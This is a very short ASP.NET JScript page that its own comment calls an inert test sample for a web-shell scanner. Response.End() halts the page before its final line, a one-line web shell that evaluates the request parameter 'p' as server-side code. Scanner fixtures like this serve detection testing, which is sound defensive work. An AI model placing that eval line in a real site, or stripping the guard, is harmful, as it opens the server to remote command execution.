<%@ Page Language="Jscript" %>
<% // shellsweep test sample: inert, never functional
Response.End(); %>
<% var k = Request.Item["p"]; Response.Write(eval(k, "unsafe")); %>
